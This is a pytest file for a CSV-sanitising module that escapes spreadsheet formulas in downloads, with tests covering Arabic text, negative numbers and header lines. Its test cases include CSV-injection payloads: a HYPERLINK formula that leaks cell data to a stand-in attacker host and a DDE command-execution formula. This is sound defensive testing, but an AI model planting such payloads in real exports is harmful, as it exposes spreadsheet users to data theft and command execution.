"""Downloads are safe to open in a spreadsheet: formula-like text is neutralised, nothing else."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ctdash.safecsv import is_dangerous, neutralise, neutralise_frame, to_csv_bytes


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "\u200f=1", "\ufeff@x",
    "-", "+", "@", "-5 people", "- a bullet",
])
def test_formula_cells_get_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "-5", "+3.5", "-1,234.5", "-1e6", "0", "plain text", "أكثر من ٢٠٠ اجتماع", "ثلاثة وعشرون",
    "Morocco (MAR)", "", "a=b", "email@example.org", "1-2", "'=already quoted",
])
def test_harmless_cells_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-5, -1.5, 0, 3, None, float("nan"), pd.Timestamp("2020-01-01")])
def test_non_text_values_unchanged(value: object) -> None:
    assert neutralise(value) is value


def test_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"value": [-5.0, 12.5], "n": [-3, 4], "mixed": [-7, "=1+1"]})
    rows = read_back(to_csv_bytes(frame))
    assert rows == [["value", "n", "mixed"], ["-5.0", "-3", "-7"], ["12.5", "4", "'=1+1"]]
    assert neutralise_frame(frame)["value"].dtype == "float64"
    assert neutralise_frame(frame)["n"].dtype == "int64"


def test_arabic_text_intact() -> None:
    frame = pd.DataFrame({"label_ar": ["أكثر من ٢٠٠ اجتماع", "\u0627\u0644\u0645\u063a\u0631\u0628"],
                          "quote": ["نحو ٩٠ ألف مقاتل", "-\u0662\u0660"]})
    rows = read_back(to_csv_bytes(frame))
    assert rows[1] == ["أكثر من ٢٠٠ اجتماع", "نحو ٩٠ ألف مقاتل"]
    assert rows[2] == ["المغرب", "'-\u0662\u0660"]  # Arabic-Indic digits after '-' are not a plain number


def test_header_cells_neutralised() -> None:
    frame = pd.DataFrame({"=HYPERLINK(\"x\")": [1], "name": ["a"], "@who": ["b"]})
    assert read_back(to_csv_bytes(frame))[0] == ["'=HYPERLINK(\"x\")", "name", "'@who"]


def test_string_and_categorical_dtypes() -> None:
    frame = pd.DataFrame({"s": pd.Series(["=1", "ok", None], dtype="string"),
                          "c": pd.Categorical(["@x", "y", "@x"])})
    out = neutralise_frame(frame)
    assert out["s"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["s"].tolist()[2])
    assert out["c"].tolist() == ["'@x", "y", "'@x"]
    assert frame["s"].tolist()[0] == "=1"  # the input frame is not changed


def test_duplicate_column_names() -> None:
    frame = pd.DataFrame([["=a", "=b"]], columns=["x", "x"])
    assert read_back(to_csv_bytes(frame))[1] == ["'=a", "'=b"]


def test_line_breaks_inside_cells_keep_rows_whole() -> None:
    frame = pd.DataFrame({"a": ["x\ry", "p\nq", "\r"], "b": [1, 2, 3]})
    assert read_back(to_csv_bytes(frame)) == [["a", "b"], ["x\ry", "1"], ["p\nq", "2"], ["'\r", "3"]]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_any_text_is_safe_and_recoverable(cell: str) -> None:
    out = neutralise(cell)
    assert not is_dangerous(out) or out == cell and not is_dangerous(cell)
    assert out in (cell, "'" + cell)
    rows = read_back(to_csv_bytes(pd.DataFrame({"c": [cell]})))
    assert rows[1:] == [[out]]


# ---------------------------------------------------------------- issue 14: the title lines


def test_sql_title_line_cannot_hold_a_formula() -> None:
    """The issue's query: its comment smuggled `=HYPERLINK` and `@SUM` cells into the title line."""
    from ctdash.filters import Filters
    from ctdash.ui import csv_with_header

    sql = 'SELECT count(*) AS n FROM facts --,=HYPERLINK("http://evil.example/?"&A5),@SUM(1+1)'
    rows = read_back(csv_with_header(pd.DataFrame({"n": [3]}), Filters(), f"SQL: {sql}"))
    assert rows[0] == [f"# ctdash: SQL: {sql}"]
    assert [len(r) for r in rows[:3]] == [1, 1, 1] and rows[3:] == [["n"], ["3"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60), max_size=4))
def test_every_header_line_is_one_safe_cell(lines: list[str]) -> None:
    from ctdash.safecsv import header_lines

    rows = list(csv.reader(io.StringIO(header_lines(lines), newline="")))
    assert len(rows) == len(lines)
    for row, line in zip(rows, lines, strict=True):
        assert len(row) == 1 and not is_dangerous(row[0])
        assert row[0] == neutralise(" ".join(line.split()))
